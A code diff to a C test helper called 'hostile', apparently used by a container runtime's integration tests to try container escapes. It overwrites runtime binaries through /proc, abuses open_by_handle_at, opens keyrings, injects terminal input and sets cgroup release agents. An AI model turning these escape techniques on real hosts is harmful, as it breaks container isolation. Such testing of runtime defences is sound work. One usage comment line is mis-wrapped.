@@ -1,13 +1,14 @@
 /*
  * What a hostile program in a container tries, for tests/integration/test_oci_attack_*.py.
  *
- *	hostile exe ROUNDS		find processes of the runtime, write to their program
- *	hostile peek ROUNDS PATH	find new processes, look for PATH of the host through them
+ *	hostile exe COUNT		find so many processes of the runtime, write to their
+ *program hostile peek ROUNDS PATH	find new processes, look for PATH of the host through them
  *	hostile swap A B		exchange two names for ever
  *	hostile calls			one line for each system call that should be refused
  *	hostile inject			put characters into the terminal on stdin
  *	hostile handles PATH		open_by_handle_at() from PATH to the top of its file system
  *	hostile ring NAME		take a keyring's name and open it to everybody; stay
+ *	hostile ids		say as whom it runs, really and effectively
  *	hostile session		say which session keyring this is
  *	hostile release		mount a version 1 control group, name a release agent
  *
@@ -31,6 +32,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 enum { PIDS_MAX = 1 << 16 };
@@ -64,7 +66,7 @@ static void write_through(int fd, const char *how)
 	char path[64];
 
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
-	for (int i = 0; i < 20000; i++) {
+	for (time_t end = time(NULL) + 2; time(NULL) <= end;) {
 		int out = open(path, O_WRONLY | O_CLOEXEC);
 
 		if (out >= 0) {
@@ -78,6 +80,8 @@ static void write_through(int fd, const char *how)
 			return;
 	}
 }
+
+static int attacked;
 
 static void attack_program(int pid, const void *data)
 {
@@ -98,6 +102,7 @@ static void attack_program(int pid, const void *data)
 	if (fd < 0)
 		return;
 	say("seen", target);
+	attacked++;
 	if (mount_setattr(fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
 		say("CHANGED", "the attributes of its mount");
 	write_through(fd, "its program");
@@ -311,7 +316,7 @@ int main(int argc, char **argv)
 	int rounds = argc > 2 ? atoi(argv[2]) : 0;
 
 	if (strcmp(verb, "exe") == 0) {
-		for (int i = 0; i < rounds; i++)
+		while (attacked < rounds)
 			each_process(attack_program, NULL);
 	} else if (strcmp(verb, "peek") == 0 && argc == 4) {
 		each_process(know, NULL);
@@ -328,6 +333,8 @@ int main(int argc, char **argv)
 		open_handles(argv[2]);
 	} else if (strcmp(verb, "ring") == 0 && argc == 3) {
 		take_ring(argv[2]);
+	} else if (strcmp(verb, "ids") == 0) {
+		printf("%d %d\n", (int) getuid(), (int) geteuid());
 	} else if (strcmp(verb, "session") == 0) {
 		show_session();
 	} else if (strcmp(verb, "release") == 0) {
